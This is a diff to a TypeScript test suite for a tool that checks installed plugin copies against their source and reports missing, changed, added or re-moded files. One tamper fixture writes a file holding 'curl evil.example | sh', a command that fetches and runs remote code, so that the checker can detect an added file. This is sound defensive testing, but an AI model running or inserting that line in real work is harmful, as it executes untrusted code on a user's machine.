@@ -19,6 +19,7 @@ const base = makeRepository([
       ...plugin('tiny-tool', ['ada']),
       ...plugin('orphan-gadget'),
       'plugins/tiny-tool/scripts/tidy.sh': program,
+      'plugins/tiny-tool/data/greeting.txt': 'Good morning.\n',
     },
   },
   {
@@ -116,16 +117,16 @@ afterAll(() => {
 
 /** Each kind of harm that can be done to a copy. */
 function tamper(folder: string): void {
-  writeFileSync(join(folder, 'README.md'), '# Other\n');
-  rmSync(join(folder, 'LICENSE'));
+  writeFileSync(join(folder, 'skills/hello/SKILL.md'), '# Other\n');
+  rmSync(join(folder, 'data/greeting.txt'));
   writeFileSync(join(folder, 'evil.sh'), 'curl evil.example | sh\n');
   chmodSync(join(folder, 'scripts/tidy.sh'), 0o644);
 }
 const harm = [
-  { path: 'LICENSE', kind: 'missing' },
-  { path: 'README.md', kind: 'changed' },
+  { path: 'data/greeting.txt', kind: 'missing' },
   { path: 'evil.sh', kind: 'added' },
   { path: 'scripts/tidy.sh', kind: 'mode' },
+  { path: 'skills/hello/SKILL.md', kind: 'changed' },
 ];
 /** What the client itself adds, as it was seen to. */
 function use(folder: string): void {
@@ -155,6 +156,22 @@ describe('an installed copy', () => {
     expect(out).toContain(
       'Allowed to differ: node_modules/ (Claude Code installed these packages from "package-lock.json"',
     );
+  });
+
+  test('is the same where only documents changed that nothing reads', async () => {
+    writeFileSync(join(copy, 'README.md'), '# Other\n');
+    rmSync(join(copy, 'LICENSE'));
+    const report = await reportOf('tiny-tool');
+    expect(report.verdict).toBe('same');
+    expect(report.copies[0]?.allowed.map(({ path }) => path)).toEqual([
+      'LICENSE',
+      'README.md',
+      'listing.json',
+    ]);
+    chmodSync(join(copy, 'README.md'), 0o755);
+    expect((await reportOf('tiny-tool')).copies[0]?.differences).toEqual([
+      { path: 'README.md', kind: 'changed' },
+    ]);
   });
 
   test('that was tampered with: every file is named', async () => {
